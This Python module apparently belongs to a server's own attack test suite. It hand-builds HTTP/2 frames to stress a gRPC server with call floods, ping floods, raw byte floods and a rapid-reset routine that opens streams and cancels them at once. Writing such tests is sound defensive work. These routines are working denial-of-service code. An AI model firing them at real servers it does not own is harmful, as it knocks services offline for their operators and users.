"""Frames of HTTP/2 (RFC 9113), as much as it takes to misbehave towards a gRPC server."""

import contextlib
import math
import select
import socket
import struct
import threading
import time
from collections.abc import Mapping

from tests.attacks.sockets import connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\0\0\0\0\0"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call(stream: int, path: str, metadata: Mapping[str, str] | None = None, *, is_whole: bool = True) -> bytes:
    """The header of a gRPC call; its message is still to come, and if it is not whole, more of the header, too."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    fields |= {"content-type": "application/grpc", **(metadata or {})}
    return frame(HEADERS, END_HEADERS if is_whole else 0, stream, b"".join(field(*one) for one in fields.items()))


GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
"""What begins a valid connection."""


def open_connection(port: int, address: str = "") -> socket.socket:
    """A connection that has said its preface and settings, made from this address of this machine if one is given."""
    made = connect(port, source=address)
    made.sendall(GREETING)
    return made


def frames(connection: socket.socket, seconds: float) -> list[tuple[int, int, int, bytes]]:
    """What comes within a time: kind, flags, stream and payload; the last one is GOAWAY 0 if the server hung up."""
    got, until = b"", time.monotonic() + seconds
    is_ended = False
    with contextlib.suppress(TimeoutError):
        while (left := until - time.monotonic()) > 0:
            connection.settimeout(left)
            try:
                part = connection.recv(65_536)
            except ConnectionResetError:
                part = b""
            got += part
            if not part:
                is_ended = True
                break
    found, _rest = _frames_in(got)
    return [*found, (GOAWAY, 0, 0, b"")] if is_ended else found


def _frames_in(got: bytes) -> tuple[list[tuple[int, int, int, bytes]], bytes]:
    """The frames that are there, and the begin of one more."""
    found, at = [], 0
    while len(got) - at >= 9 and len(got) - at >= (size := 9 + int.from_bytes(got[at : at + 3], "big")):
        stream = int.from_bytes(got[at + 5 : at + 9], "big")
        found.append((got[at + 3], got[at + 4], stream, got[at + 9 : at + size]))
        at += size
    return found, got[at:]


def call_again_and_again(
    port: int,
    path: str,
    at_once: int,
    over: threading.Event,
    *,
    most: float = math.inf,
    metadata: Mapping[str, str] | None = None,
) -> int:
    """Make calls on one connection, `at_once` at a time, each with an empty message, as fast as they are answered or
    refused, until there were `most`, or it is `over`, or the server hangs up; how many there were.
    """
    ended: set[int] = set()
    stream, rest, refill = 1, b"", frame(WINDOW_UPDATE, 0, 0, (1 << 16).to_bytes(4, "big"))
    with contextlib.suppress(OSError), contextlib.closing(open_connection(port)) as made:
        while not over.is_set() and len(ended) < most:
            missing = range(stream, 2 * int(min(len(ended) + at_once, most)) + 1, 2)
            calls = (call(one, path, metadata) + frame(DATA, END_STREAM, one, EMPTY_MESSAGE) for one in missing)
            made.sendall(b"".join(calls) + refill)
            stream += 2 * len(missing)
            if not (part := made.recv(1 << 20)):
                break
            found, rest = _frames_in(rest + part)
            # A call may be both, answered and reset.
            ended.update(one for kind, flags, one, _ in found if kind == RST_STREAM or is_last(kind, flags))
    return len(ended)


def is_last(kind: int, flags: int) -> bool:
    """Whether a frame is the trailer of an answer."""
    return kind == HEADERS and bool(flags & END_STREAM)


def pings_answered(connection: socket.socket, count: int, seconds: float) -> int:
    """Send so many pings as fast as they are taken; how many are answered within a time."""
    waiting, answered, rest = memoryview(frame(PING, 0, 0, bytes(8)) * count), 0, b""
    until = time.monotonic() + seconds
    connection.setblocking(False)
    while answered < count and (left := until - time.monotonic()) > 0:
        readable, writable, _ = select.select([connection], [connection] if waiting else [], [], left)
        if writable:
            waiting = waiting[connection.send(waiting[:65_536]) :]
        if readable:
            part = connection.recv(1 << 20)
            if not part:
                break
            rest, at = rest + part, 0
            while len(rest) - at >= (length := 9 + int.from_bytes(rest[at : at + 3], "big")) and len(rest) - at >= 9:
                answered += rest[at + 3] == PING and rest[at + 4] == ACK
                at += length
            rest = rest[at:]
    return answered


def flood(connection: socket.socket, unit: bytes, length: int, seconds_max: float) -> int:
    """Send `unit` again and again, `length` bytes in all, and read what is answered, until the server hangs up or the
    time is over; how many bytes were sent.
    """
    batch = unit * (65_536 // len(unit) or 1)
    sent, waiting, until = 0, memoryview(batch), time.monotonic() + seconds_max
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        while sent < length and (left := until - time.monotonic()) > 0:
            readable, writable, _ = select.select([connection], [connection], [], left)
            if readable and not connection.recv(1 << 20):
                break
            if writable:
                taken = connection.send(waiting)
                sent, waiting = sent + taken, waiting[taken:] or memoryview(batch)
    return sent


def field(name: str, value: str) -> bytes:
    """A field of a header."""
    # Never indexed, and without Huffman's code (RFC 7541, 6.2.3).
    return b"\x10" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 127:
        return bytes((len(raw),)) + raw
    rest, more = len(raw) - 127, b""
    while rest >= 128:
        more += bytes((rest % 128 + 128,))
        rest //= 128
    return b"\x7f" + more + bytes((rest,)) + raw


def rapid_resets(port: int, count: int, path: str, metadata: Mapping[str, str] | None = None) -> int:
    """Begin calls and take them back at once, until the server has taken note of all; how many were sent before it
    hung up.
    """
    sent, batch = 0, b""
    with contextlib.closing(open_connection(port)) as made, contextlib.suppress(OSError):
        for number in range(count):
            stream = 2 * number + 1
            batch += call(stream, path, metadata) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            batch += frame(RST_STREAM, 0, stream, CANCEL)
            if len(batch) > 32_768:
                made.sendall(batch)
                sent, batch = number + 1, b""
                made.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while made.recv(1 << 20):
                        pass
                made.settimeout(5)
        made.sendall(batch + frame(PING, 0, 0, bytes(8)))
        sent, rest = count, b""
        while part := made.recv(1 << 20):
            found, rest = _frames_in(rest + part)
            if any(kind == PING and flags & ACK for kind, flags, *_ in found):
                break
    return sent
